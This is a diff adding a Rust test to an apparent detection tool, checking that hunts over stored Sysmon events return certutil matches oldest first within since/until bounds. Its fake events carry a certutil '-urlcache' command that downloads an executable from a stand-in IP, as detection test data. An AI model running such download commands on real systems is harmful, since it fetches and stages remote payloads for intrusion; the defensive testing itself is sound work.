@@ -952,3 +952,64 @@ fn hunt_runs_rules_over_files_without_storing_and_names_each_rules_author() {
         "hunting stores nothing"
     );
 }
+
+#[test]
+fn hunt_without_files_runs_rules_over_stored_events_in_time_order_within_since_and_until() {
+    let ward = Ward::new();
+    let rules = ward.dir.path().join("hunt-rules");
+    std::fs::create_dir_all(&rules).unwrap();
+    std::fs::write(rules.join("certutil.yml"), RULE_CERTUTIL).unwrap();
+    let line = |minute: u32, image: &str| {
+        format!(
+            r#"{{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"ws{minute}","TimeCreated":"2026-11-02T10:{minute:02}:00Z","Image":"C:\\Windows\\System32\\{image}","CommandLine":"{image} -urlcache -f http://203.0.113.5/a.exe a.exe"}}"#
+        )
+    };
+    // Stored out of time order: the hunt reads them back oldest first.
+    let events = ward.file(
+        "stored.ndjson",
+        [
+            line(30, "certutil.exe"),
+            line(5, "certutil.exe"),
+            line(10, "notepad.exe"),
+            line(50, "certutil.exe"),
+        ]
+        .join("\n")
+        .as_bytes(),
+    );
+    ward.ok(&["ingest", events.to_str().unwrap()]);
+    let hunt = |extra: &[&str]| -> Vec<String> {
+        let mut args = vec!["hunt", "--json", rules.to_str().unwrap()];
+        args.extend_from_slice(extra);
+        ward.ok(&args)
+            .lines()
+            .map(|l| {
+                let v: Value = serde_json::from_str(l).unwrap();
+                v["event"]["device"]["hostname"]
+                    .as_str()
+                    .unwrap()
+                    .to_string()
+            })
+            .collect()
+    };
+    assert_eq!(
+        hunt(&["--since", "2026-11-01"]),
+        ["ws5", "ws30", "ws50"],
+        "every stored match, oldest first"
+    );
+    assert_eq!(
+        hunt(&[
+            "--since",
+            "2026-11-02T10:06:00Z",
+            "--until",
+            "2026-11-02T10:50:00Z"
+        ]),
+        ["ws30"],
+        "since inclusive, until exclusive"
+    );
+    assert!(
+        hunt(&["--since", "2026-11-03"]).is_empty(),
+        "nothing after the last event"
+    );
+    let out = ward.run(&["hunt", rules.to_str().unwrap(), "--since", "yesterday-ish"]);
+    assert_eq!(out.status.code(), Some(2));
+}
